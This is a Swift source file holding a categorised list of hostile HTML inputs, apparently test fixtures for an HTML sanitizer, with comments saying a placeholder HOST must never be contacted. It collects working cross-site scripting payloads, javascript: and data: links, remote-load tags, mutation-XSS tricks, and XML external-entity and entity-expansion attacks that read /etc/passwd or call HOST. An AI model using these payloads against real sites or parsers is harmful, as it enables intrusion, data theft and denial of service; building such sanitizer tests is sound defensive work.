/// Documents that try to run or to load something, by the class of their trick. `HOST` is the address of a server
/// that nobody may ask for anything; what stands between `[[` and `]]` may not be seen.
enum HostileHTML {
  static let tricks: [String] =
    scripts + handlers + addresses + loading + foreign + broken + encoded + parsers

  /// Elements that run what is in them.
  static let scripts = [
    "<script>[[alert(1)]]</script>", "<SCRIPT SRC=http://HOST/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>[[alert(1)]]</script\n>",
    "<script/x>[[alert(1)]]</script>", "<script src=//HOST/x.js>",
    "<script type=module>[[import 'http://HOST/x.js']]</script>",
    "<svg><script>[[alert(1)]]</script></svg>", "<svg><script href=http://HOST/x.js /></svg>",
    "<math><mtext><script>[[alert(1)]]</script></mtext></math>",
    "<template><script>[[alert(1)]]</script></template>", "<<script>[[alert(1)]]//<</script>",
    "<script>[[<!--<script>alert(1)</script>-->]]</script>",
    "<svg:script>[[alert(1)]]</svg:script>",
    "<noembed><script>[[alert(1)]]</script></noembed>",
  ]

  /// Attributes that run when something happens.
  static let handlers = [
    "<img src=x onerror=alert(1)>", "<body onload=alert(1)>words</body>",
    "<a href=http://e.org onclick=alert(1)>words</a>", "<div onmouseover='alert(1)'>words</div>",
    "<img src=http://HOST/a.png onload=alert(1)>",
    "<details open ontoggle=alert(1)>words</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>[[a]]</select>",
    "<marquee onstart=alert(1)>words</marquee>",
    "<p style=animation-name:x onanimationstart=alert(1)>w",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<video src=http://HOST/a.mp4 onerror=alert(1)>", "<p onclick\u{0B}=alert(1)>words",
    "<img/src='x'/onerror=alert(1)>", "<button onclick=alert(1)>[[press]]</button>",
  ]

  /// Links that are no addresses of pages.
  static let addresses = [
    "<a href=javascript:alert(1)>words</a>", "<a href='JaVaScRiPt:alert(1)'>words</a>",
    "<a href='java\tscript:alert(1)'>words</a>", "<a href='java\nscript:alert(1)'>words</a>",
    "<a href=' \u{1}javascript:alert(1)'>words</a>", "<a href='&#106;avascript:alert(1)'>words</a>",
    "<a href='&#x6A&#x61&#x76ascript:alert(1)'>words</a>",
    "<a href='javascript&colon;alert(1)'>words</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>words</a>",
    "<a href='javascript://e.org/%0Aalert(1)'>w</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>words</a>",
    "<a href=vbscript:msgbox(1)>words</a>",
    "<a href=file:///etc/passwd>words</a>", "<a href='feed:javascript:alert(1)'>words</a>",
    "<a href='view-source:http://e.org'>w</a>", "<a href=ftp://HOST/x>words</a>",
    "<a href='blob:http://e.org/1'>words</a>", "<a href=//HOST/x>words</a>",
    "<a href='\\\\HOST\\x'>w</a>",
    "<a href='http:javascript:alert(1)'>words</a>", "<a href='https:///x'>words</a>",
    "<a href='x-apt:evil'>words</a>", "<a href='#'>words</a>", "<a href=smb://HOST/share>words</a>",
    "<base href='javascript:alert(1)//'><a href='x'>words</a>",
    "<a xlink:href=javascript:alert(1)>w</a>",
    "<a href=http://e.org href=javascript:alert(1)>words</a>",
    "<a href='http://e.org\u{0}:x'>words</a>",
    "<area href=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>[[press]]</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
  ]

  /// What a browser would load by itself.
  static let loading = [
    "<img src=http://HOST/a.png alt=words>", "<img srcset='http://HOST/a.png 2x' alt=words>",
    "<picture><source srcset=http://HOST/a.webp><img src=http://HOST/a.png></picture>",
    "<image src=http://HOST/a.png>", "<iframe src=http://HOST/>[[words]]</iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=http://HOST/></frameset>",
    "<object data=http://HOST/a.swf>[[words]]</object>", "<embed src=http://HOST/a.swf>",
    "<applet code=X archive=http://HOST/a.jar>[[words]]</applet>",
    "<audio src=http://HOST/a.ogg></audio>",
    "<video poster=http://HOST/a.png><source src=http://HOST/a.mp4></video>",
    "<link rel=stylesheet href=http://HOST/a.css>", "<link rel=prefetch href=http://HOST/a>",
    "<link rel=dns-prefetch href=//HOST>", "<style>[[@import 'http://HOST/a.css';]]</style>",
    "<style>[[p { background: url(http://HOST/a.png) }]]</style><p>words",
    "<p style='background:url(http://HOST/a.png)'>words",
    "<body background=http://HOST/a.png>words",
    "<table background=http://HOST/a.png><tr><td>words</table>",
    "<meta http-equiv=refresh content='0;url=http://HOST/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>", "<bgsound src=http://HOST/a.mid>",
    "<layer src=http://HOST/></layer>", "<input type=image src=http://HOST/a.png>",
    "<track src=http://HOST/a.vtt>", "<portal src=http://HOST/>",
    "<img src=file:///etc/passwd alt=words>",
    "<img src='/etc/passwd' alt=w>", "<img src='../../secret.png' alt=w>",
    "<img src='%2e%2e/secret' alt=w>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>' alt=w>",
    "<html manifest=http://HOST/m>words</html>",
    "<a href=http://e.org ping=http://HOST/>words</a>", "<script>[[fetch('http://HOST')]]</script>",
    "<img src=http://HOST/1.png width=1 height=1>",
    "<p style=\"behavior:url(http://HOST/x.htc)\">words",
    "<xml src=http://HOST/x id=i></xml><span datasrc=#i datafld=c>words</span>",
  ]

  /// Drawings and formulas, which have rules of their own.
  static let foreign = [
    "<svg><a xlink:href=javascript:alert(1)><text>[[words]]</text></a></svg>",
    "<svg><use href='http://HOST/a.svg#x'/></svg>", "<svg><image href=http://HOST/a.png /></svg>",
    "<svg><foreignObject><iframe src=http://HOST/></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><style>[[@import 'http://HOST']]</style></svg>",
    "<math href=javascript:alert(1)>words</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>w</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><noscript>[[a]]</noscript></desc></svg>",
  ]

  /// Markup that is read otherwise than it looks.
  static let broken = [
    "<!--><script>[[alert(1)]]</script>-->",
    "<!-- --!><img src=http://HOST/a onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>words",
    "<p title='</p><script>alert(1)</script>'>words",
    "<a href=\"http://e.org\"\"onclick=alert(1)\">words",
    "<img \"\"\"><script>[[alert(1)]]</script>\">", "<a <b href=javascript:alert(1)>words",
    "<textarea></textarea><script>[[alert(1)]]</script>",
    "<title></title><script>[[alert(1)]]</script>",
    "<noscript><p title='</noscript><img src=http://HOST/x onerror=alert(1)>'>",
    "</script><script>[[alert(1)]]", "<div><table><script>[[alert(1)]]</script></div>",
    "<a href=javascript:alert(1)<b>words", "<style><style/><script>[[alert(1)]]</script>",
    "<plaintext><img src=http://HOST/a>", "<li><ol></li><a href=javascript:alert(1)>words",
  ]

  /// Letters that are not what they seem.
  static let encoded = [
    "\u{FEFF}<script>[[alert(1)]]</script>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<?xml version='1.0' encoding='utf-16'?><p>words", "&lt;script&gt;words&lt;/script&gt;",
    "<a href='&#0000106&#0000097vascript:alert(1)'>w</a>", "＜script＞words＜/script＞",
    "<a href='http://e.org/\u{202E}gpj.exe'>words</a>", "%3Cscript%3Ewords%3C/script%3E",
  ]

  /// What is meant for the parser itself.
  static let parsers = [
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://HOST/e'>]><p>&e;",
    "<!DOCTYPE x SYSTEM 'http://HOST/x.dtd'><p>words",
    "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://HOST/p'>%p;]><p>words",
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]><p>&c;",
    "<p xmlns:xi=http://www.w3.org/2001/XInclude><xi:include href=http://HOST/x /></p>",
    "&#xFFFFFFFF;&#0;&#x110000;&#xD800;words", "<p &#x3C;script&#x3E;>words",
  ]
}
